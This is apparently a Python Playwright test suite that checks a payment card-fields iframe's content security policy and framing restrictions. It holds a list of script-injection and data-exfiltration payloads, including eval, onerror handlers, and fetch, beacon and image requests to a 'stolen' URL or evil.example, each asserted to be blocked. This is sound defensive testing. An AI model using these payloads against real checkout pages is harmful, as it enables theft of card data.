"""What the frame's policy keeps out, and who may frame it: seen in the browser that enforces it."""

import re
from urllib.parse import quote

import pytest
from playwright.async_api import Frame, Page

from tests import cards
from tests.browser.checkout.stage import Stage
from tests.browser.checkout.visit import Form, Visit
from tests.browser.waiting import until
from tests.flows.deployment import eventually
from tests.flows.wire import Wire

pytestmark = pytest.mark.embedded


def key_id(key: str) -> str:
    return f"k_{key.removeprefix('pwpk_test_')[:16]}"


def fields_url(stage: Stage, key: str, origin: str) -> str:
    query = f"key={key_id(key)}&origin={quote(origin, safe='')}&field=card"
    return f"{stage.urls.public}/checkout/v1/fields?{query}#nonce={'0' * 32}&group={'1' * 32}"


def fields_frame(page: Page) -> Frame:
    return next(frame for frame in page.frames if "/checkout/v1/fields" in frame.url)


INJECTIONS = {
    "inline script": """
      const script = document.createElement("script");
      script.append("window.owned = 1");
      document.body.append(script);""",
    "script text": "document.createElement('script').textContent = 'window.owned = 1';",
    "external script": """
      const script = document.createElement("script");
      script.setAttribute("src", stolen);
      document.body.append(script);""",
    "module": "await import(stolen);",
    "handler": """
      const image = document.createElement("b");
      image.setAttribute("onclick", "window.owned = 1");
      document.body.append(image);
      image.click();""",
    "javascript link": """
      const link = document.createElement("a");
      link.href = "javascript:window.owned = 1";
      document.body.append(link);
      link.click();""",
    "innerHTML": "document.body.innerHTML += '<img src=x onerror=\\'window.owned = 1\\'>';",
    "document.write": "document.write('<script>window.owned = 1</scr' + 'ipt>');",
    "eval": "(0, eval)('window.owned = 1');",
    "Function": "new Function('window.owned = 1')();",
    "timer text": "setTimeout('window.owned = 1');",
    "frame": """
      const frame = document.createElement("iframe");
      frame.src = stolen;
      document.body.append(frame);""",
    "own frame": """
      const frame = document.createElement("iframe");
      frame.src = location.href;
      document.body.append(frame);""",
    "srcdoc": """
      const frame = document.createElement("iframe");
      frame.srcdoc = "<script>parent.owned = 1</scr" + "ipt>";
      document.body.append(frame);""",
    "form": """
      const form = document.createElement("form");
      form.method = "post";
      form.action = stolen;
      form.append(document.querySelector("#field"));
      document.body.append(form);
      form.submit();""",
    "fetch": "await fetch(stolen, { mode: 'no-cors' });",
    "beacon": "navigator.sendBeacon(stolen, 'x');",
    "socket": "new WebSocket(stolen.replace('http', 'ws'));",
    "event source": "new EventSource(stolen);",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`' + stolen + '`)'])));",
    "image": "new Image().src = stolen;",
    "style": """
      const style = document.createElement("style");
      style.append(`body { background: url(${stolen}) }`);
      document.head.append(style);""",
    "style sheet": """
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = stolen;
      document.head.append(link);""",
    "background": "document.body.style.backgroundImage = `url(${stolen})`;",
    "font": "await new FontFace('x', `url(${stolen})`).load();",
    "object": """
      const object = document.createElement("object");
      object.data = stolen;
      document.body.append(object);""",
    "prefetch": """
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = stolen;
      document.head.append(link);""",
    "another policy": "trustedTypes.createPolicy('mine', {});",
}
"""What an attacker with a way to run in the frame would do next; each is to be refused."""

# In a timer, so that the page's policy holds and not the leave that a debugger has.
_RUN = """async ([stolen]) => {
  window.seen ??= [];
  if (!window.watching) {
    window.watching = true;
    document.addEventListener("securitypolicyviolation", (event) =>
      window.seen.push(event.effectiveDirective));
  }
  window.seen.length = 0;
  return await new Promise((resolve) => setTimeout(async () => {
    try { %s } catch (error) { resolve(error.name); return; }
    setTimeout(() => resolve("done"), 60);
  }));
}"""


@pytest.mark.guards("T-55")
async def test_whatever_gets_into_the_frame_is_stopped_there(visit: Visit, stage: Stage) -> None:
    form = await visit.form()
    await form.type(cards.VISA)
    frame = fields_frame(form.page)
    for name, attempt in INJECTIONS.items():
        stolen = f"{stage.pages.stranger}/stolen?{quote(name)}"
        ended = await frame.evaluate(_RUN % attempt, [stolen])
        seen = await frame.evaluate("window.seen")
        assert seen, f"{name}: {ended}, and no policy was in its way"
        assert await frame.evaluate("window.owned") is None, name
    assert stage.pages.stolen == []
    assert (await form.tokenize())["last4"] == cards.VISA[-4:]  # and it works as before


async def test_a_base_has_no_effect(visit: Visit, stage: Stage) -> None:
    form = await visit.form()
    frame = fields_frame(form.page)
    run = """const base = document.createElement("base");
      base.href = stolen;
      document.head.prepend(base);"""
    await frame.evaluate(_RUN % run, [f"{stage.pages.stranger}/stolen/"])
    assert await frame.evaluate("window.seen") == ["base-uri"]
    assert (await frame.evaluate("document.baseURI")).startswith(stage.urls.public)


async def test_what_a_browser_reports_is_counted(visit: Visit, stage: Stage, wire: Wire) -> None:
    async def counted() -> dict[str, float]:
        text = (await wire("GET", f"{stage.urls.ops}/metrics")).body.decode()
        found = re.findall(r'csp_reports_total\{directive="([a-z-]+)"\} ([0-9.]+)', text)
        return {name: float(value) for name, value in found}

    before = await counted()
    form = await visit.form()
    await fields_frame(form.page).evaluate(_RUN % INJECTIONS["image"], ["https://evil.example/"])
    await form.page.goto("about:blank")  # a document that goes sends its reports at once

    async def one_more() -> bool:
        return (await counted()).get("img-src", 0) > before.get("img-src", 0)

    assert await eventually(one_more, "a report of what was blocked")


async def test_the_frame_has_no_feature_and_no_memory(visit: Visit) -> None:
    form = await visit.form()
    await form.type(cards.VISA)
    await form.tokenize()
    frame = fields_frame(form.page)
    assert await frame.evaluate(
        "document.cookie + localStorage.length + sessionStorage.length"
    ) == ("00")
    assert await visit.context.cookies() == []
    assert await frame.evaluate("document.featurePolicy.allowedFeatures().length") <= 20
    for feature in ("camera", "payment", "clipboard-read", "geolocation"):
        assert not await frame.evaluate(f"document.featurePolicy.allowsFeature('{feature}')")


# --- who may frame it ---------------------------------------------------------------------


async def test_an_unlisted_page_gets_no_fields(
    visit: Visit, stage: Stage, page_errors: list[str]
) -> None:
    page = await visit.page(at=stage.pages.stranger)
    form = await visit.begin(page)
    failure = await form.event("failure")
    assert failure["code"] == "not_ready"
    assert (await form.refusal())["code"] == "not_ready"
    assert await form.input("number").count() == 0


async def frame_in(page: Page, address: str) -> None:
    """Put a frame into a page, and wait until whatever the browser shows there is loaded."""
    await page.evaluate(
        """(address) => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.onload = resolve;
          frame.src = address;
          document.body.append(frame);
        })""",
        address,
    )


@pytest.mark.guards("T-55")
@pytest.mark.parametrize("named", ["shop", "stranger"])
async def test_a_stranger_frames_nothing(visit: Visit, stage: Stage, named: str) -> None:
    """Neither under its own name nor under the shop's."""
    page = await visit.context.new_page()
    await page.goto(f"{stage.pages.stranger}/empty")
    origin = getattr(stage.pages, named)
    await frame_in(page, fields_url(stage, visit.account.publishable_key, origin))
    (_, frame) = page.frames
    assert frame.url.startswith("chrome-error:")
    assert await frame.locator("input").count() == 0


async def test_a_stranger_does_not_frame_the_shop_with_its_fields(
    visit: Visit, stage: Stage
) -> None:
    """Every ancestor must be the listed one, or a stranger lays a page over the shop's."""
    page = await visit.context.new_page()
    await page.goto(f"{stage.pages.stranger}/empty")
    await frame_in(page, f"{stage.pages.shop}/?gateway=main")
    shop = page.frames[1]
    await until(shop, "window.begin !== undefined")
    given = ["one", visit.account.publishable_key, {}, {}, "#one"]
    await shop.evaluate("(words) => begin(...words)", given)
    await until(shop, "forms.one.events.some(([name]) => name === 'failure')")
    assert [frame.url for frame in shop.child_frames] == ["chrome-error://chromewebdata/"]


async def test_by_itself_the_page_is_refused_or_empty(visit: Visit, stage: Stage) -> None:
    page = await visit.context.new_page()
    key = visit.account.publishable_key
    refused = await page.goto(fields_url(stage, key, stage.pages.stranger))
    assert refused is not None
    assert refused.status == 403
    assert "not on the key's list" in await page.inner_text("main")
    shown = await page.goto(fields_url(stage, key, stage.pages.shop))
    assert shown is not None
    assert shown.status == 200
    assert await page.locator("input").count() == 0


async def test_a_key_of_another_merchant_shows_nothing(visit: Visit, stage: Stage) -> None:
    other = await stage.new_account("https://other.example")
    form = await visit.begin(await visit.page(), key=other.publishable_key)
    assert (await form.event("failure"))["code"] == "not_ready"


async def test_a_shop_that_isolates_itself_may_frame_it(visit: Visit, stage: Stage) -> None:
    page = await visit.context.new_page()
    await page.goto(f"{stage.pages.shop}/isolated")
    assert await page.evaluate("crossOriginIsolated")
    await until(page, "window.Panward !== undefined && window.begin !== undefined")
    form: Form = await visit.form(page)
    await form.type(cards.VISA)
    assert (await form.tokenize())["brand"] == "visa"
